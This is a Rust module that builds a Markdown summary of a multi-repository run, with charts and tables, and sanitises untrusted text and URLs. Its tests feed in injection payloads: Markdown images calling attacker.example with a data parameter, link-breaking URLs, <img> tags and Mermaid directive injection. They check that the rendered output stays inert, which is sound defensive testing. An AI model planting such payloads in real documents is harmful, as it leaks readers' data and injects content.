//! `fleet-summary.md`: the outcomes at a glance (a pie per status, bar charts of the slowest
//! and costliest repositories and, for a big fleet, how the times spread), then a table with a
//! row per repository. A merged report of shards is written by the same code.

use super::FleetReport;
use crate::output::chart;
use std::fmt::Write as _;

/// The most repositories a bar chart names; the rest are summed in a line below it.
pub const TOP: usize = 15;

/// The Markdown of `fleet-summary.md`.
pub fn summary(r: &FleetReport) -> String {
    let mut s = String::new();
    let icon = if r.exit_code == 0 { "✅" } else { "❌" };
    let counts: Vec<String> = r.counts.iter().map(|(k, v)| format!("{v} {k}")).collect();
    let mut cost = r.cost_usd.map(|c| format!("; cost {}", crate::spec::pricing::dollars(c))).unwrap_or_default();
    if r.rescued > 0 {
        let _ = write!(cost, "; {} rescued by a later try", r.rescued);
    }
    let _ = writeln!(
        s,
        "## {icon} hone fleet: {} — {} repositories ({}){cost}\n",
        crate::markdown::code(&r.job),
        r.repos.len(),
        counts.join(", ")
    );
    charts(&mut s, r);
    let _ = writeln!(s, "| Repository | Status | PR | Time | Tokens | Error |\n|---|---|---|---|---|---|");
    for repo in &r.repos {
        let pr = repo.pr_url.as_deref().map(pr_link).unwrap_or_default();
        // An error may quote a command's output or a repository's text: plain text in the cell.
        let err = repo
            .error
            .as_deref()
            .map(|e| match repo.code {
                Some(c) => format!("{}: {}", c.as_str(), crate::markdown::text(e)),
                None => crate::markdown::text(e),
            })
            .unwrap_or_default();
        let resumed = match (repo.resumed, repo.rescued_by) {
            (true, _) => " (resumed)".to_string(),
            (_, Some(k)) => format!(" (try {k})"),
            _ => String::new(),
        };
        let _ = writeln!(
            s,
            "| {} | {}{resumed} | {pr} | {:.1}s | {} | {err} |",
            crate::markdown::code_cell(&repo.source),
            repo.status.as_str(),
            repo.duration_ms as f64 / 1000.0,
            repo.tokens
        );
    }
    answers(&mut s, r);
    s
}

/// The most answer fields shown as columns, and the longest cell.
const ANSWER_COLUMNS: usize = 8;
const ANSWER_CELL: usize = 120;

/// The repositories' answers (`output:`) as a table: a column per top-level field when the
/// answers are objects, else one column. Every cell is plain code: answers are the model's words.
fn answers(s: &mut String, r: &FleetReport) {
    let rows: Vec<(&str, &serde_json::Value)> =
        r.repos.iter().filter_map(|x| x.output.as_ref().map(|o| (x.source.as_str(), o))).collect();
    if rows.is_empty() {
        return;
    }
    let mut keys: Vec<&str> = Vec::new();
    for (_, v) in &rows {
        for k in v.as_object().into_iter().flat_map(|o| o.keys()) {
            if !keys.contains(&k.as_str()) && keys.len() < ANSWER_COLUMNS {
                keys.push(k);
            }
        }
    }
    let objects = rows.iter().all(|(_, v)| v.is_object()) && !keys.is_empty();
    let cell = |v: Option<&serde_json::Value>| {
        let text = match v {
            Some(serde_json::Value::String(t)) => t.clone(),
            Some(other) => other.to_string(),
            None => String::new(),
        };
        let cut: String = text.chars().take(ANSWER_CELL).collect();
        let more = if cut.len() < text.len() { "…" } else { "" };
        if cut.is_empty() { String::new() } else { format!("{}{more}", crate::markdown::code_cell(&cut)) }
    };
    let heads: Vec<String> =
        if objects { keys.iter().map(|k| crate::markdown::code_cell(k)).collect() } else { vec!["Answer".into()] };
    let _ = writeln!(s, "\n### Answers\n\n| Repository | {} |\n|---|{}", heads.join(" | "), "---|".repeat(heads.len()));
    for (source, v) in rows {
        let cells: Vec<String> =
            if objects { keys.iter().map(|k| cell(v.get(*k))).collect() } else { vec![cell(Some(v))] };
        let _ = writeln!(s, "| {} | {} |", crate::markdown::code_cell(source), cells.join(" | "));
    }
}

/// The charts: outcomes, time and cost per repository, and the spread of the times.
fn charts(s: &mut String, r: &FleetReport) {
    let outcomes: Vec<(&str, usize)> = r.counts.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    s.push_str(&chart::pie("Outcomes", &outcomes).unwrap_or_default());
    let times: Vec<(&str, f64)> = r.repos.iter().map(|x| (x.id.as_str(), x.duration_ms as f64 / 1000.0)).collect();
    let minutes = times.iter().any(|(_, t)| *t >= 120.0);
    let (unit, scale) = if minutes { ("minutes", 60.0) } else { ("seconds", 1.0) };
    let times: Vec<(&str, f64)> = times.into_iter().map(|(id, t)| (id, t / scale)).collect();
    ranked(s, "Time per repository", unit, &times, |v| format!("{:.1} {unit}", v));
    let costs: Vec<(&str, f64)> = r.repos.iter().filter_map(|x| Some((x.id.as_str(), x.cost_usd?))).collect();
    ranked(s, "Cost per repository", "US dollars", &costs, crate::spec::pricing::dollars);
    if r.repos.len() > TOP {
        let spread = spread(r.repos.iter().map(|x| x.duration_ms));
        let bars: Vec<(&str, f64)> = spread.iter().map(|(l, n)| (*l, *n as f64)).collect();
        s.push_str(&chart::bars("Repositories by time taken", "repositories", &bars).unwrap_or_default());
    }
}

/// A bar chart of the [`TOP`] largest `values`, and what the others add up to below it.
fn ranked(s: &mut String, title: &str, unit: &str, values: &[(&str, f64)], show: impl Fn(f64) -> String) {
    let (top, others, rest) = chart::top(values, TOP);
    let title = if others > 0 { format!("{title} (the {TOP} largest)") } else { title.to_string() };
    let Some(block) = chart::bars(&title, unit, &top) else {
        return;
    };
    s.push_str(&block);
    if others > 0 {
        let _ = writeln!(s, "The other {others} repositories: {} in all.\n", show(rest));
    }
}

/// How many repositories took how long, in buckets from under 10 seconds to over an hour;
/// the buckets before the first and after the last one used are left out.
fn spread(durations_ms: impl Iterator<Item = u64>) -> Vec<(&'static str, usize)> {
    const EDGES: [(u64, &str); 8] = [
        (10_000, "under 10s"),
        (30_000, "10-30s"),
        (60_000, "30s-1m"),
        (120_000, "1-2m"),
        (300_000, "2-5m"),
        (600_000, "5-10m"),
        (3_600_000, "10m-1h"),
        (u64::MAX, "over 1h"),
    ];
    let mut counts = [0usize; EDGES.len()];
    for d in durations_ms {
        let i = EDGES.iter().position(|(edge, _)| d < *edge).unwrap_or(EDGES.len() - 1);
        counts[i] += 1;
    }
    let first = counts.iter().position(|n| *n > 0).unwrap_or(0);
    let last = counts.iter().rposition(|n| *n > 0).unwrap_or(0);
    (first..=last).map(|i| (EDGES[i].1, counts[i])).collect()
}

/// A PR's URL in a table cell: a link when it is a plain web URL, else shown as code (a
/// `fleet.json` is data: its URL could close the link and open an image or HTML).
fn pr_link(url: &str) -> String {
    let plain = (url.starts_with("https://") || url.starts_with("http://"))
        && url.chars().all(|c| c.is_ascii_alphanumeric() || "-._~:/?#@!$&'*+,;=%".contains(c));
    if plain { format!("[link]({url})") } else { crate::markdown::code_cell(url) }
}

#[cfg(test)]
mod tests {
    use super::super::tests::repo;
    use super::super::{RepoStatus, build};
    use super::*;

    #[test]
    fn the_summary_renders_nothing_a_repository_wrote() {
        let mut bad = repo("x", RepoStatus::Failed);
        bad.source = "https://example.com/a|`<img src=y>`".into();
        bad.error = Some("check failed:\n![](http://attacker.example/?d=1) <!-- hidden --> | broken".into());
        bad.pr_url = Some("https://x/)![i](http://attacker.example/a.png)".into());
        let r = build("job` <img src=x> `", "h", String::new(), 0, vec![bad], false);
        let md = summary(&r);
        assert!(crate::markdown::is_inert(&md), "{md}");
        assert_eq!(md.lines().filter(|l| l.starts_with('|')).count(), 3, "the table stays whole: {md}");
    }

    #[test]
    fn repository_ids_in_the_charts_stay_labels() {
        let mut a = repo("a\"] bar [9\n```\n%%{init: {}}%%", RepoStatus::Failed);
        a.cost_usd = Some(0.5);
        let r = build("j", "h", String::new(), 0, vec![a, repo("<img src=x>", RepoStatus::PrCreated)], false);
        let md = summary(&r);
        assert!(crate::markdown::is_inert(&md), "{md}");
        assert_eq!(md.matches("```mermaid\n").count(), 3, "outcomes, time, cost: {md}");
        assert_eq!(md.matches("\n```\n").count(), 3, "{md}");
        assert!(md.contains("x-axis [\"_img src_x_\", \"a__ bar _9 ___ ___init_ _____\"]"), "{md}");
        for chart in md.split("```mermaid\n").skip(1).map(|b| b.split("```").next().unwrap_or("")) {
            assert!(!chart.contains("%%") && !chart.contains('<'), "{chart}");
        }
    }

    #[test]
    fn a_thousand_repositories_make_charts_a_person_can_read() {
        let repos: Vec<_> = (0..1000u64)
            .map(|i| {
                let status = if i % 10 == 0 { RepoStatus::Failed } else { RepoStatus::PrCreated };
                super::super::RepoResult {
                    duration_ms: i * 1000,
                    cost_usd: Some(0.01),
                    ..repo(&format!("r{i:04}"), status)
                }
            })
            .collect();
        let md = summary(&build("j", "h", String::new(), 0, repos, false));
        let bars: Vec<&str> = md.lines().filter(|l| l.starts_with("    x-axis [")).collect();
        assert_eq!(bars.len(), 3, "time, cost, spread: {md}");
        assert_eq!(bars[0].matches("\", \"").count(), TOP - 1, "{}", bars[0]);
        assert!(bars[0].starts_with("    x-axis [\"r0999\", \"r0998\""), "the slowest first: {}", bars[0]);
        assert!(md.contains("The other 985 repositories: "), "{md}");
        assert!(md.contains("\"pr_created\" : 900") && md.contains("\"failed\" : 100"), "{md}");
        assert!(
            md.contains("x-axis [\"under 10s\", \"10-30s\", \"30s-1m\", \"1-2m\", \"2-5m\", \"5-10m\", \"10m-1h\"]")
        );
    }

    #[test]
    fn a_read_only_fleet_gets_a_table_of_its_answers_as_plain_cells() {
        let mut a = repo("a", RepoStatus::Succeeded);
        a.output = Some(serde_json::json!({"uses": true, "how": "<img src=x> | `pwn`"}));
        let mut b = repo("b", RepoStatus::Succeeded);
        b.output = Some(serde_json::json!({"uses": false}));
        let md = summary(&build("j", "h", String::new(), 0, vec![a, b], false));
        let table = md.split("### Answers").nth(1).expect(&md);
        assert!(table.contains("| Repository | `how` | `uses` |"), "{table}");
        assert!(table.lines().filter(|l| l.starts_with("| ")).count() == 3, "{table}");
        assert!(crate::markdown::is_inert(table), "{table}");
    }

    #[test]
    fn no_repositories_no_charts() {
        let md = summary(&build("j", "h", String::new(), 0, vec![], false));
        assert!(!md.contains("```"), "{md}");
        let md = summary(&build("j", "h", String::new(), 0, vec![repo("a", RepoStatus::NoChange)], false));
        assert_eq!(md.matches("```mermaid").count(), 2, "outcomes and time, no cost: {md}");
    }
}
